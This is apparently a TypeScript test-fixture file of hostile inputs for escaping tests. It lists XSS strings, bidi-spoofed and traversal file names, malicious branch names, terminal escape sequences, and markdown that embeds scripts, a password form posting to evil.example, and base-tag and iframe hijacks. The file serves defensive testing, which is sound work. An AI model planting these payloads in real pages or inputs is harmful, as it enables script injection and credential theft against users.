/** Texts that would break out of HTML, attributes, scripts or terminals if a page did not escape them. */
export const hostileTexts: ReadonlyArray<string> = [
  '<xss-tag onclick="alert(1)">tag</xss-tag>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  "</title></textarea></script><script>alert(1)</script>",
  "javascript:alert(1)",
  "$\u007Balert(1)} {{7*7}} <!-- --> <![CDATA[x]]>",
  "&lt;xss-tag&gt; &#60;xss-tag&#62;",
  "\u202Egnp.exe \u2066bidi",
  "a".repeat(200)
]

/** Names of files and branches that git allows. */
export const hostilePaths: ReadonlyArray<string> = [
  '"><img src=x onerror=alert(1)>.md',
  "javascript:alert(1).txt",
  "a b/%2e%2e/<xss-tag>.ts",
  "#fragment?query=1&x=<xss-tag>.txt",
  "'onmouseover=alert(1).csv",
  "ünï-\u202Ecod.html"
]

/** Branches: git forbids spaces, `?`, `*`, `[`, `~`, `^`, `:` and `\`. */
export const hostileBranches: ReadonlyArray<string> = [
  '"><xss-tag/onclick=alert(1)>',
  "%2e%2e/<xss-tag>",
  "#x&y='\"",
  "x/--/<xss-tag>"
]

/** Markdown that tries to run scripts, load foreign resources, or change the page around it. */
export const hostileMarkdown = `# <script>alert(1)</script> heading
<xss-tag onclick="alert(1)">x</xss-tag> <img src=x onerror=alert(1)> <svg onload=alert(1)><style>*{display:none}</style></svg>
[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) ![c](javascript:alert(1)) <a href="vbscript:x">d</a>
<form action="https://evil.example"><input name="password"><button>go</button></form> <iframe src="https://evil.example"></iframe>
<div style="position:fixed" id="form" class="topbar" data-focus>clobber</div> <base href="https://evil.example"> <meta http-equiv="refresh" content="0">
\`\`\`"><xss-tag onclick=alert(1)>
code </code></pre><xss-tag>
\`\`\`
| <xss-tag> | "onclick=alert(1) |
|---|---|
| a | b |

- [ ] <xss-tag>
`

/** Lines of a log with control sequences of terminals. */
export const hostileLog: ReadonlyArray<string> = [
  "\u001b[31m<xss-tag onclick=alert(1)>\u001b[0m red",
  "\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007",
  "\u001b[2J\u001b[1;1H\u001b]0;title\u0007cleared",
  "</pre><script>alert(1)</script>",
  "\u001b[999999999m \u001b[38;2;1;2;3m \u009b31m"
]
